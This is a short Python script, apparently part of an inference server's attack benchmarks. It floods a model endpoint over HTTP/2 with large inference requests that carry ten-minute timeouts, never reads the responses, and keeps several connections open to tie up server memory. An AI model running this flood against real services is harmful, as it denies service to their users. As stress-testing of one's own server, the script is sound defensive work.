"""Large requests that are willing to wait for ten minutes, and hold memory for as long."""

import math

from benchmarks.attacks.attacker import Aim, Http2, keep_trying, main, message
from fermata.clients.wire import open_inference_pb2 as pb

TIMEOUT_US = 599_000_000
CALLS = 200


def run(aim: Aim) -> None:
    """Send them as fast as they are taken, and read no answer."""
    request = pb.ModelInferRequest(model_name=aim.model)
    request.parameters["timeout"].int64_param = TIMEOUT_US
    request.inputs.add(name="input", datatype="UINT8", shape=aim.shape)
    request.raw_input_contents.append(bytes(math.prod(aim.shape)))
    data = message(request.SerializeToString())
    open_: list[Http2] = []

    def attack(count: int) -> None:
        if len(open_) >= 8:
            open_.pop(0).close()
        one = Http2(aim, count % 3)
        open_.append(one)
        for _ in range(CALLS):
            one.data(one.begin("ModelInfer"), data, end=True)

    keep_trying(aim, attack)
    for each in open_:
        each.close()


if __name__ == "__main__":
    main(run, __doc__)
